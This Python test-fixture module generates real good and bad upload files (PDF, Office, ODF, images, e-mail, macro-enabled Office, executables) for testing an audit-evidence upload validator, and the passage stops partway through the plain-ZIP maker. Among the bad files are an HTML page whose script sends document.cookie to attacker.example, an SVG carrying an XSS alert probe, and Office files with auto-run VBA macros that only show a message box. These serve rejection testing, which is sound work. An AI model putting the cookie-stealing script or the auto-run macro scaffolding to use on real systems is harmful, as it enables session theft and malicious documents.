"""Makers of real test files, written by the real libraries that produce them.

Every ``make_*`` function writes one file to ``path`` (parent folders are created)
and returns it as a :class:`pathlib.Path`. Third-party libraries are imported
inside each maker, so importing this module costs nothing and a test only needs
the library of the format it actually uses.

Good files (uploads that must be accepted):
    make_pdf, make_large_pdf, make_docx, make_xlsx, make_pptx, make_odt,
    make_ods, make_odp, make_png, make_jpeg, make_eml, make_csv, make_txt,
    make_xls, make_doc

Bad files (uploads that must be rejected), also committed under tests/corpus/bad/
by :func:`write_bad_corpus`:
    make_docm, make_xlsm, make_elf, make_windows_exe, make_html_script,
    make_svg_script, make_plain_zip, make_truncated_pdf, make_empty,
    make_polyglot_pdf_html

Hostile documents (accepted, their text not extracted: decision 0018) are made by
tests/bombmakers.py, also into tests/corpus/bad/.
"""

from __future__ import annotations

import csv
import itertools
import os
import posixpath
import re
import shutil
import struct
import uuid
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
GOOD_CORPUS_DIR = CORPUS_DIR / "good"
BAD_CORPUS_DIR = CORPUS_DIR / "bad"

DEFAULT_TEXT = "Audit evidence - quality manual, revision 3"

FRENCH_TEXT = (
    "Procédure de maîtrise des documents\n"
    "Révision : 3 — approuvée par la responsable qualité, Hélène Guérin.\n"
    "Objet : décrire la création, la vérification et l'archivage des "
    "enregistrements (« preuves ») exigés par l'ISO 9001 § 7.5.\n"
    "Périmètre : tous les sites, y compris l'entrepôt de Besançon et l'atelier "
    "d'Évreux. Où ? Là où les données sont créées. Ça s'applique à chacun.\n"
    "Œuvre collective : à relire chaque année ; dernière revue le 12 décembre.\n"
)


def _prepare(path) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


# --------------------------------------------------------------------------- PDF


def make_pdf(path, pages: int = 1, text: str = DEFAULT_TEXT) -> Path:
    """A real PDF made by fpdf2: ``pages`` pages, each showing ``text`` (Latin-1 only)."""
    from fpdf import FPDF

    path = _prepare(path)
    pdf = FPDF()
    pdf.set_title("audit-prep test document")
    pdf.set_font("Helvetica", size=12)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.multi_cell(0, 8, f"{text}\nPage {number} / {pages}")
    pdf.output(str(path))
    return path


def make_large_pdf(path, size_bytes: int, chunk_size: int = 1 << 20) -> Path:
    """A valid one-page PDF of exactly ``size_bytes`` bytes, padded by an attachment.

    The padding is an /EmbeddedFile stream of random (incompressible) bytes, listed
    in the catalog's /Names /EmbeddedFiles tree, so the file is well formed: correct
    /Length, cross-reference table, trailer, startxref and a final ``%%EOF``. It is
    streamed to disk in ``chunk_size`` pieces (200 MB takes about a second).
    """
    path = _prepare(path)
    content = b"BT /F1 18 Tf 72 720 Td (Large audit evidence file) Tj ET"

    def objects(length: int, pad: int) -> list[bytes]:
        return [
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /Names << /EmbeddedFiles << /Names [(padding.bin) 6 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1"
            b" /BaseFont /Helvetica >> >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /EmbeddedFile /Length %d%s >>\nstream\n" % (length, b" " * pad),
            b"<< /Type /Filespec /F (padding.bin) /UF (padding.bin) /EF << /F 5 0 R >> >>",
        ]

    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    stream_end = b"\nendstream\nendobj\n"

    def layout(length: int, pad: int = 0):
        """Return (prefix_bytes, suffix_bytes) around ``length`` random bytes; ``pad``
        spaces in the stream dictionary fine-tune the total size."""
        offsets = []
        prefix = bytearray(header)
        suffix = bytearray()
        for number, body in enumerate(objects(length, pad), start=1):
            if number < 5:
                offsets.append(len(prefix))
                prefix += b"%d 0 obj\n" % number + body + b"\nendobj\n"
            elif number == 5:
                offsets.append(len(prefix))
                prefix += b"%d 0 obj\n" % number + body
            else:
                offsets.append(len(prefix) + length + len(stream_end) + len(suffix))
                suffix += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        suffix = bytes(stream_end) + bytes(suffix)
        xref_at = len(prefix) + length + len(suffix)
        xref = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
        xref += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
        trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
            len(offsets) + 1,
            xref_at,
        )
        return bytes(prefix), suffix + xref + trailer

    def total(length: int, pad: int) -> int:
        prefix, suffix = layout(length, pad)
        return len(prefix) + length + len(suffix)

    # The overhead only changes with the number of digits of /Length and startxref, so
    # a few rounds give the length; spaces in the dictionary absorb a digit boundary.
    length = max(size_bytes - 1000, 0)
    for _ in range(5):
        length = max(length + size_bytes - total(length, 0), 0)
    length = max(min(length, length + size_bytes - total(length, 0)), 0)
    pad = 0
    for _ in range(5):
        pad = max(pad + size_bytes - total(length, pad), 0)
    if total(length, pad) != size_bytes:
        raise ValueError(f"size_bytes={size_bytes} is too small for a valid PDF")
    prefix, suffix = layout(length, pad)

    with open(path, "wb") as out:
        out.write(prefix)
        remaining = length
        while remaining:
            n = min(chunk_size, remaining)
            out.write(os.urandom(n))
            remaining -= n
        out.write(suffix)
    return path


# ------------------------------------------------------------ OOXML (Office 2007+)


def make_docx(path, paragraphs: int = 3, text: str = DEFAULT_TEXT) -> Path:
    """A real Word .docx made by python-docx: a heading and ``paragraphs`` paragraphs."""
    import docx

    path = _prepare(path)
    document = docx.Document()
    document.add_heading("Procédure qualité", level=1)
    for number in range(1, paragraphs + 1):
        document.add_paragraph(f"{number}. {text}")
    document.core_properties.author = "audit-prep tests"
    document.save(str(path))
    return path


def make_xlsx(path, rows: int = 5) -> Path:
    """A real Excel .xlsx made by openpyxl: a header row and ``rows`` data rows."""
    import openpyxl

    path = _prepare(path)
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Indicateurs"
    sheet.append(["Indicateur", "Cible", "Réalisé"])
    for number in range(1, rows + 1):
        sheet.append([f"Indicateur {number}", 95, 90 + number % 10])
    workbook.save(str(path))
    return path


def make_pptx(path, slides: int = 2) -> Path:
    """A real PowerPoint .pptx made by python-pptx: ``slides`` title-and-content slides."""
    from pptx import Presentation

    path = _prepare(path)
    presentation = Presentation()
    layout = presentation.slide_layouts[1]  # "Title and Content"
    for number in range(1, slides + 1):
        slide = presentation.slides.add_slide(layout)
        slide.shapes.title.text = f"Revue de direction - {number}"
        slide.placeholders[1].text = "Objectifs qualité atteints"
    presentation.save(str(path))
    return path


# Macro-enabled OOXML: a real docx/xlsx post-processed into a docm/xlsm.

_VBA_REL_TYPE = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
_MACRO_MAIN = {
    "word": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "ThisDocument",
    ),
    "xl": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "ThisWorkbook",
    ),
}


def _resolve(rels_name: str, target: str) -> str:
    """Part name (no leading slash) that a Relationship Target in ``rels_name`` points to."""
    if target.startswith("/"):
        return target[1:]
    source_dir = posixpath.dirname(posixpath.dirname(rels_name))  # word/_rels/x.rels -> word
    return posixpath.normpath(posixpath.join(source_dir, target))


def _add_vba_project(source: Path, target: Path, kind: str, drop: tuple[str, ...] = ()) -> Path:
    """Copy the OOXML package ``source`` to ``target`` as its macro-enabled variant.

    Optional parts named in ``drop`` are left out, with their relationships and
    content-type overrides, to keep corpus files small.
    """
    main_part, plain_type, macro_type, module = _MACRO_MAIN[kind]
    rels_part = f"{kind}/_rels/{main_part.split('/')[-1]}.rels"
    vba_part = f"{kind}/vbaProject.bin"
    relationship = re.compile(r'<Relationship [^>]*?Target="([^"]+)"[^>]*/>')
    with (
        zipfile.ZipFile(source) as zin,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout,
    ):
        names = zin.namelist()
        if rels_part not in names:
            raise ValueError(f"{source}: no {rels_part}")
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info)
            if info.filename == "[Content_Types].xml":
                text = data.decode("utf-8")
                if plain_type not in text:
                    raise ValueError(f"{source}: no {plain_type} in [Content_Types].xml")
                text = text.replace(plain_type, macro_type)
                text = text.replace(
                    "<Default ",
                    f'<Default Extension="bin" ContentType="{_VBA_CONTENT_TYPE}"/><Default ',
                    1,
                )
                for part in drop:
                    text = re.sub(rf'<Override PartName="/{re.escape(part)}"[^>]*/>', "", text)
                data = text.encode("utf-8")
            elif info.filename.endswith(".rels"):
                text = data.decode("utf-8")
                if drop:
                    text = relationship.sub(
                        lambda m: "" if _resolve(info.filename, m.group(1)) in drop else m.group(0),
                        text,
                    )
                if info.filename == rels_part:
                    text = text.replace(
                        "</Relationships>",
                        f'<Relationship Id="rIdVbaProject" Type="{_VBA_REL_TYPE}"'
                        ' Target="vbaProject.bin"/></Relationships>',
                    )
                data = text.encode("utf-8")
            out_info = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            out_info.external_attr = info.external_attr
            zout.writestr(out_info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
        zout.writestr(vba_part, vba_project_bin(module))
    return target


def make_docm(path) -> Path:
    """A macro-enabled Word .docm (~20 KB): a python-docx document plus word/vbaProject.bin.

    [Content_Types].xml declares the document as
    application/vnd.ms-word.document.macroEnabled.main+xml and the .bin extension as
    application/vnd.ms-office.vbaProject; word/_rels/document.xml.rels links the part.
    The VBA project (see :func:`vba_project_bin`) holds an ``AutoOpen`` macro.
    """
    path = _prepare(path)
    plain = path.with_name(path.name + ".tmp.docx")
    try:
        make_docx(plain, paragraphs=1)
        # Optional parts of python-docx's template, dropped to stay under ~20 KB.
        drop = ("word/stylesWithEffects.xml", "docProps/thumbnail.jpeg")
        return _add_vba_project(plain, path, "word", drop=drop)
    finally:
        plain.unlink(missing_ok=True)


def make_xlsm(path) -> Path:
    """A macro-enabled Excel .xlsm: an openpyxl workbook plus xl/vbaProject.bin.

    [Content_Types].xml declares the workbook as
    application/vnd.ms-excel.sheet.macroEnabled.main+xml; xl/_rels/workbook.xml.rels
    links the part. The VBA project holds a ``Workbook_Open`` macro.
    """
    path = _prepare(path)
    plain = path.with_name(path.name + ".tmp.xlsx")
    try:
        make_xlsx(plain, rows=2)
        return _add_vba_project(plain, path, "xl")
    finally:
        plain.unlink(missing_ok=True)


# ---------------------------------------------------------------- ODF (odfpy)


def make_odt(path, text: str = DEFAULT_TEXT) -> Path:
    """A real OpenDocument text .odt made by odfpy: a heading and a paragraph."""
    from odf.opendocument import OpenDocumentText
    from odf.text import H, P

    path = _prepare(path)
    document = OpenDocumentText()
    document.text.addElement(H(outlinelevel=1, text="Procédure qualité"))
    document.text.addElement(P(text=text))
    document.save(str(path))
    return path


def make_ods(path, rows: int = 5) -> Path:
    """A real OpenDocument spreadsheet .ods made by odfpy: one table of ``rows`` rows."""
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    path = _prepare(path)
    document = OpenDocumentSpreadsheet()
    table = Table(name="Indicateurs")
    for number in range(1, rows + 1):
        row = TableRow()
        label = TableCell(valuetype="string")
        label.addElement(P(text=f"Indicateur {number}"))
        value = TableCell(valuetype="float", value=90 + number)
        value.addElement(P(text=str(90 + number)))
        row.addElement(label)
        row.addElement(value)
        table.addElement(row)
    document.spreadsheet.addElement(table)
    document.save(str(path))
    return path


def make_odp(path, slides: int = 2) -> Path:
    """A real OpenDocument presentation .odp made by odfpy: ``slides`` pages with text."""
    from odf.draw import Frame, Page, TextBox
    from odf.opendocument import OpenDocumentPresentation
    from odf.style import MasterPage, PageLayout, PageLayoutProperties
    from odf.text import P

    path = _prepare(path)
    document = OpenDocumentPresentation()
    page_layout = PageLayout(name="PM1")
    page_layout.addElement(
        PageLayoutProperties(pagewidth="28cm", pageheight="21cm", printorientation="landscape")
    )
    document.automaticstyles.addElement(page_layout)
    master = MasterPage(name="Default", pagelayoutname=page_layout)
    document.masterstyles.addElement(master)
    for number in range(1, slides + 1):
        page = Page(masterpagename=master, name=f"page{number}")
        frame = Frame(width="20cm", height="3cm", x="2cm", y="2cm")
        box = TextBox()
        box.addElement(P(text=f"Revue de direction - {number}"))
        frame.addElement(box)
        page.addElement(frame)
        document.presentation.addElement(page)
    document.save(str(path))
    return path


# ------------------------------------------------------------- images (Pillow)


def make_png(path, size: tuple[int, int] = (64, 48)) -> Path:
    """A real PNG made by Pillow: an RGB gradient of ``size`` pixels."""
    from PIL import Image

    path = _prepare(path)
    width, height = size
    image = Image.new("RGB", size)
    image.putdata(
        [
            (x * 255 // max(width - 1, 1), y * 255 // max(height - 1, 1), 128)
            for y in range(height)
            for x in range(width)
        ]
    )
    image.save(path, format="PNG")
    return path


def make_jpeg(path, size: tuple[int, int] = (64, 48)) -> Path:
    """A real JPEG made by Pillow: an RGB gradient of ``size`` pixels (JFIF)."""
    from PIL import Image

    path = _prepare(path)
    width, height = size
    image = Image.new("RGB", size)
    image.putdata(
        [
            (x * 255 // max(width - 1, 1), 100, y * 255 // max(height - 1, 1))
            for y in range(height)
            for x in range(width)
        ]
    )
    image.save(path, format="JPEG", quality=85)
    return path


# --------------------------------------------------------------- text formats


def make_eml(path, subject: str = "Preuve : rapport d'audit interne") -> Path:
    """A real RFC 822 e-mail (.eml) from email.message.EmailMessage.

    Headers From (first line of the file), To, Subject, Date, Message-ID; a UTF-8
    plain-text body.
    """
    path = _prepare(path)
    message = EmailMessage()
    message["From"] = "Hélène Guérin <qualite@example.com>"
    message["To"] = "audit@example.org"
    message["Subject"] = subject
    message["Date"] = format_datetime(datetime(2025, 3, 14, 9, 30, tzinfo=UTC))
    message["Message-ID"] = make_msgid(domain="example.com")
    message.set_content(
        "Bonjour,\n\nVeuillez trouver le compte rendu de l'audit interne.\n\n"
        "Cordialement,\nHélène\n"
    )
    path.write_bytes(bytes(message))
    return path


def make_csv(path, rows: int = 5, delimiter: str = ",") -> Path:
    """A real CSV written by the csv module: a header row and ``rows`` data rows (UTF-8)."""
    path = _prepare(path)
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, delimiter=delimiter)
        writer.writerow(["date", "indicateur", "cible", "realise"])
        for number in range(1, rows + 1):
            writer.writerow([f"2025-01-{number:02d}", f"Indicateur {number}", 95, 90 + number])
    return path


def make_txt(path, text: str = FRENCH_TEXT) -> Path:
    """A UTF-8 plain-text file of French text with accents (é, è, à, ç, œ, «»)."""
    path = _prepare(path)
    path.write_text(text, encoding="utf-8")
    return path


# ------------------------------------------------- legacy Office (OLE2 / CFB)


def make_xls(path, rows: int = 5) -> Path:
    """A real legacy Excel 97-2003 .xls (BIFF8 in an OLE2 container) made by xlwt."""
    import xlwt

    path = _prepare(path)
    workbook = xlwt.Workbook(encoding="utf-8")
    sheet = workbook.add_sheet("Indicateurs")
    for column, title in enumerate(["Indicateur", "Cible", "Réalisé"]):
        sheet.write(0, column, title)
    for number in range(1, rows + 1):
        sheet.write(number, 0, f"Indicateur {number}")
        sheet.write(number, 1, 95)
        sheet.write(number, 2, 90 + number)
    workbook.save(str(path))
    return path


def make_doc(path) -> Path:
    """A legacy Word 97-2003 .doc: a copy of tests/corpus/good/sample.doc.

    No pure-Python writer exists; sample.doc was made once with LibreOffice (see
    tests/corpus/README.md), so tests need no LibreOffice.
    """
    path = _prepare(path)
    shutil.copyfile(GOOD_CORPUS_DIR / "sample.doc", path)
    return path


# A minimal but well-formed VBA project (MS-OVBA) inside a CFB (MS-CFB) container,
# as Office stores it in vbaProject.bin.


def _ovba_compress(data: bytes) -> bytes:
    """MS-OVBA CompressedContainer holding ``data`` as literal tokens only (valid, unoptimised)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        body = bytearray()
        for token in range(0, len(chunk), 8):
            body.append(0)  # flag byte: the next (up to) 8 tokens are literals
            body += chunk[token : token + 8]
        size = len(body) + 2
        out += struct.pack("<H", (size - 3) | 0xB000)  # signature 0b011, compressed flag
        out += body
    return bytes(out)


def _record(record_id: int, payload: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(payload)) + payload


def _vba_dir_stream(module: str) -> bytes:
    name = b"VBAProject"
    mod = module.encode("ascii")
    mod_u = module.encode("utf-16-le")
    d = bytearray()
    d += _record(0x0001, struct.pack("<I", 1))  # PROJECTSYSKIND: 32-bit Windows
    d += _record(0x0002, struct.pack("<I", 0x409))  # PROJECTLCID
    d += _record(0x0014, struct.pack("<I", 0x409))  # PROJECTLCIDINVOKE
    d += _record(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
    d += _record(0x0004, name)  # PROJECTNAME
    d += _record(0x0005, b"") + _record(0x0040, b"")  # PROJECTDOCSTRING
    d += _record(0x0006, b"") + _record(0x003D, b"")  # PROJECTHELPFILEPATH
    d += _record(0x0007, struct.pack("<I", 0))  # PROJECTHELPCONTEXT
    d += _record(0x0008, struct.pack("<I", 0))  # PROJECTLIBFLAGS
    d += struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION 1.0
    d += _record(0x000C, b"") + _record(0x003C, b"")  # PROJECTCONSTANTS
    d += _record(0x000F, struct.pack("<H", 1))  # PROJECTMODULES: 1 module
    d += _record(0x0013, struct.pack("<H", 0xFFFF))  # PROJECTCOOKIE
    d += _record(0x0019, mod)  # MODULENAME
    d += _record(0x0047, mod_u)  # MODULENAMEUNICODE
    d += _record(0x001A, mod) + _record(0x0032, mod_u)  # MODULESTREAMNAME
    d += _record(0x001C, b"") + _record(0x0048, b"")  # MODULEDOCSTRING
    d += _record(0x0031, struct.pack("<I", 0))  # MODULEOFFSET: source at 0
    d += _record(0x001E, struct.pack("<I", 0))  # MODULEHELPCONTEXT
    d += _record(0x002C, struct.pack("<H", 0xFFFF))  # MODULECOOKIE
    d += struct.pack("<HI", 0x0022, 0)  # MODULETYPE: document/class module
    d += struct.pack("<HI", 0x002B, 0)  # module terminator
    d += struct.pack("<HI", 0x0010, 0)  # dir terminator
    return _ovba_compress(bytes(d))


def _vba_source(module: str) -> bytes:
    sub = "Private Sub Workbook_Open()" if module == "ThisWorkbook" else "Sub AutoOpen()"
    lines = [
        f'Attribute VB_Name = "{module}"',
        'Attribute VB_Base = "0{00020906-0000-0000-C000-000000000046}"',
        "Attribute VB_GlobalNameSpace = False",
        "Attribute VB_Creatable = False",
        "Attribute VB_PredeclaredId = True",
        "Attribute VB_Exposed = True",
        sub,
        '    MsgBox "audit-prep test macro: must be rejected"',
        "End Sub",
        "",
    ]
    return "\r\n".join(lines).encode("cp1252")


_CFB_SECTOR = 512
_CFB_FREE, _CFB_END, _CFB_FATSECT, _CFB_NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _cfb_chain(start: int, count: int) -> list[int]:
    """The FAT (or mini FAT) entries of `count` consecutive sectors from `start`."""
    return [*range(start + 1, start + count), _CFB_END]


def _cfb_entries(storages: dict[str, dict[str, bytes]],
                 streams: dict[str, bytes]) -> list[list]:
    """Directory entries [name, type, child, left, right, start, size, data], the root first,
    each storage's children linked under it."""
    nostream, end = _CFB_NOSTREAM, _CFB_END
    entries: list[list] = [["Root Entry", 5, nostream, nostream, nostream, end, 0, b""]]

    def add_children(names_data: list[tuple[str, int, bytes]]) -> list[int]:
        ids = []
        for name, kind, data in names_data:
            entries.append([name, kind, nostream, nostream, nostream, end, len(data), data])
            ids.append(len(entries) - 1)
        return ids

    def link(parent: int, child_ids: list[int]) -> None:
        # A binary search tree (ordered by length, then upper-case name) as a chain
        # of right siblings: valid for readers, all nodes black.
        ordered = sorted(child_ids, key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
        if ordered:
            entries[parent][2] = ordered[0]
            for a, b in itertools.pairwise(ordered):
                entries[a][4] = b

    root_children = add_children([(n, 2, d) for n, d in streams.items()])
    for storage, storage_streams in storages.items():
        (storage_id,) = add_children([(storage, 1, b"")])
        entries[storage_id][5] = 0  # storages have no data: start sector 0, size 0
        root_children.append(storage_id)
        link(storage_id, add_children([(n, 2, d) for n, d in storage_streams.items()]))
    link(0, root_children)
    return entries


def _cfb_mini_stream(entries: list[list]) -> tuple[bytearray, list[int]]:
    """The mini stream (every stream, each starting on a 64-byte mini sector) and its mini
    FAT; sets each stream's start and the root's size."""
    mini_stream = bytearray()
    mini_fat: list[int] = []
    for entry in entries[1:]:
        data = entry[7]
        if entry[1] != 2 or not data:
            continue
        count = -(-len(data) // 64)
        first = len(mini_fat)
        entry[5] = first
        mini_fat += _cfb_chain(first, count)
        mini_stream += data + b"\0" * (count * 64 - len(data))
    entries[0][6] = len(mini_stream)
    return mini_stream, mini_fat


def _cfb_directory(entries: list[list]) -> bytes:
    nostream = _CFB_NOSTREAM
    directory = bytearray()
    for name, kind, child, left, right, start, size, _ in entries:
        encoded = name.encode("utf-16-le") + b"\0\0"
        directory += encoded.ljust(64, b"\0")
        directory += struct.pack("<HBB", len(encoded), kind, 1)
        directory += struct.pack("<III", left, right, child)
        directory += b"\0" * 16 + struct.pack("<IQQ", 0, 0, 0)
        directory += struct.pack("<IQ", start, size)
    empty_entry = b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, nostream, nostream, nostream)
    empty_entry += b"\0" * (128 - len(empty_entry))
    while len(directory) % _CFB_SECTOR:
        directory += empty_entry
    return bytes(directory)


def _cfb(storages: dict[str, dict[str, bytes]], streams: dict[str, bytes]) -> bytes:
    """A version 3 Compound File (512-byte sectors). All streams must be < 4096 bytes,
    so they live in the mini stream. ``storages`` maps a storage name to its streams,
    ``streams`` are the root's own streams."""
    sector, free, end = _CFB_SECTOR, _CFB_FREE, _CFB_END
    entries = _cfb_entries(storages, streams)
    mini_stream, mini_fat = _cfb_mini_stream(entries)
    directory_bytes = _cfb_directory(entries)

    minifat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat)
    minifat_bytes += b"\xff" * (-len(minifat_bytes) % sector)
    mini_stream_bytes = bytes(mini_stream) + b"\0" * (-len(mini_stream) % sector)

    # Sector layout: 0 = FAT, then directory, mini FAT, mini stream.
    n_dir = len(directory_bytes) // sector
    n_minifat = len(minifat_bytes) // sector
    n_mini = len(mini_stream_bytes) // sector
    dir_start = 1
    minifat_start = dir_start + n_dir
    mini_start = minifat_start + n_minifat
    total = mini_start + n_mini
    if total > sector // 4:
        raise ValueError("VBA project too large for a single FAT sector")

    fat = [_CFB_FATSECT, *_cfb_chain(dir_start, n_dir), *_cfb_chain(minifat_start, n_minifat)]
    fat += _cfb_chain(mini_start, n_mini) if n_mini else []
    fat += [free] * (sector // 4 - len(fat))
    entries[0][5] = mini_start if n_mini else end
    # Root entry start sector changed: rewrite its directory entry fields.
    directory = bytearray(directory_bytes)
    struct.pack_into("<IQ", directory, 116, entries[0][5], entries[0][6])

    header = bytearray()
    header += b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIII", 0, 1, dir_start, 0, 4096)
    header += struct.pack("<III", minifat_start, n_minifat, end) + struct.pack("<I", 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108  # DIFAT: FAT at sector 0
    assert len(header) == sector
    body = struct.pack(f"<{len(fat)}I", *fat) + bytes(directory)
    return bytes(header) + body + minifat_bytes + mini_stream_bytes


def vba_project_bin(module: str = "ThisDocument") -> bytes:
    """Bytes of a vbaProject.bin: an OLE2/CFB file with PROJECT, VBA/dir, VBA/_VBA_PROJECT
    and one document module ``module`` whose source is an auto-run macro. olevba
    (oletools) extracts the macro source from it."""
    project = (
        f'ID="{{{str(uuid.UUID(int=0x41554449545052455000000000000001)).upper()}}}"\r\n'
        f"Document={module}/&H00000000\r\n"
        'Name="VBAProject"\r\n'
        'HelpContextID="0"\r\n'
        'VersionCompatible32="393222000"\r\n'
        "\r\n"
        "[Host Extender Info]\r\n"
        "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
        "\r\n"
        "[Workspace]\r\n"
        f"{module}=0, 0, 0, 0, C\r\n"
    ).encode("cp1252")
    vba = {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",  # version 0xFFFF: no p-code cache
        "dir": _vba_dir_stream(module),
        module: _ovba_compress(_vba_source(module)),
    }
    return _cfb({"VBA": vba}, {"PROJECT": project})


# -------------------------------------------------------------------- bad files


def make_elf(path, exit_code: int = 0) -> Path:
    """A real, runnable x86-64 Linux ELF executable (ET_EXEC, 132 bytes) that calls
    exit(``exit_code``). libmagic: application/x-executable."""
    path = _prepare(path)
    base = 0x400000
    code = (
        b"\xb8\x3c\x00\x00\x00"  # mov eax, 60 (exit)
        + b"\xbf"
        + struct.pack("<I", exit_code)  # mov edi, exit_code
        + b"\x0f\x05"  # syscall
    )
    ehdr_size, phdr_size = 64, 56
    entry = base + ehdr_size + phdr_size
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8  # 64-bit, LE, SysV
    ehdr = ident + struct.pack(
        "<HHIQQQIHHHHHH",
        2,  # ET_EXEC
        0x3E,  # EM_X86_64
        1,  # EV_CURRENT
        entry,
        ehdr_size,  # e_phoff
        0,  # e_shoff
        0,  # e_flags
        ehdr_size,
        phdr_size,
        1,  # e_phnum
        64,  # e_shentsize
        0,  # e_shnum
        0,  # e_shstrndx
    )
    size = ehdr_size + phdr_size + len(code)
    phdr = struct.pack(
        "<IIQQQQQQ",
        1,  # PT_LOAD
        5,  # PF_R | PF_X
        0,  # p_offset
        base,
        base,
        size,
        size,
        0x1000,
    )
    path.write_bytes(ehdr + phdr + code)
    return path


def make_windows_exe(path) -> Path:
    """A minimal well-formed PE32 console executable for i386 (1024 bytes): MZ header,
    PE signature, COFF and optional headers, one .text section (``xor eax,eax; ret``).
    libmagic: application/vnd.microsoft.portable-executable."""
    path = _prepare(path)
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHH", dos, 2, 0x90, 3, 0, 4, 0)  # cblp, cp, crlc, cparhdr, minalloc
    struct.pack_into("<H", dos, 12, 0xFFFF)  # maxalloc
    struct.pack_into("<H", dos, 16, 0xB8)  # sp
    struct.pack_into("<H", dos, 24, 0x40)  # lfarlc
    struct.pack_into("<I", dos, 60, 0x40)  # e_lfanew
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0103)  # no relocs, exe, 32-bit
    optional = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
        0x10B,  # Magic: PE32
        14,  # MajorLinkerVersion
        0,  # MinorLinkerVersion
        0x200,  # SizeOfCode
        0,  # SizeOfInitializedData
        0,  # SizeOfUninitializedData
        0x1000,  # AddressOfEntryPoint
        0x1000,  # BaseOfCode
        0x2000,  # BaseOfData
        0x400000,  # ImageBase
        0x1000,  # SectionAlignment
        0x200,  # FileAlignment
        6,  # MajorOperatingSystemVersion
        0,  # MinorOperatingSystemVersion
        0,  # MajorImageVersion
        0,  # MinorImageVersion
        6,  # MajorSubsystemVersion
        0,  # MinorSubsystemVersion
        0,  # Win32VersionValue
        0x2000,  # SizeOfImage
        0x200,  # SizeOfHeaders
        0,  # CheckSum
        3,  # Subsystem: IMAGE_SUBSYSTEM_WINDOWS_CUI
        0x0100,  # DllCharacteristics: NX_COMPAT
        0x100000,  # SizeOfStackReserve
        0x1000,  # SizeOfStackCommit
        0x100000,  # SizeOfHeapReserve
        0x1000,  # SizeOfHeapCommit
        0,  # LoaderFlags
        16,  # NumberOfRvaAndSizes (all 16 data directories empty)
    ) + b"\0" * (16 * 8)
    section = b".text\0\0\0" + struct.pack(
        "<IIIIIIHHI", 3, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020
    )
    headers = bytes(dos) + b"PE\0\0" + coff + optional + section
    headers += b"\0" * (0x200 - len(headers))
    text = b"\x31\xc0\xc3"  # xor eax, eax; ret
    path.write_bytes(headers + text + b"\0" * (0x200 - len(text)))
    return path


def make_html_script(path) -> Path:
    """An HTML page with an inline <script>. libmagic: text/html."""
    path = _prepare(path)
    path.write_text(
        '<!DOCTYPE html>\n<html lang="fr">\n<head>\n<meta charset="utf-8">\n'
        "<title>Rapport d'audit</title>\n</head>\n<body>\n<h1>Rapport d'audit</h1>\n"
        "<script>document.location='https://attacker.example/?c='+document.cookie;</script>\n"
        "</body>\n</html>\n",
        encoding="utf-8",
    )
    return path


def make_svg_script(path) -> Path:
    """An SVG image with an embedded <script>. libmagic: image/svg+xml."""
    path = _prepare(path)
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" '
        'viewBox="0 0 100 100">\n'
        '  <rect width="100" height="100" fill="#1a7f37"/>\n'
        '  <script type="text/javascript">alert(document.domain);</script>\n'
        "</svg>\n",
        encoding="utf-8",
    )
    return path


def make_plain_zip(path) -> Path:
    """A plain ZIP archive holding one text file (not an OOXML package). libmagic:
    application/zip."""
    path = _prepare(path)
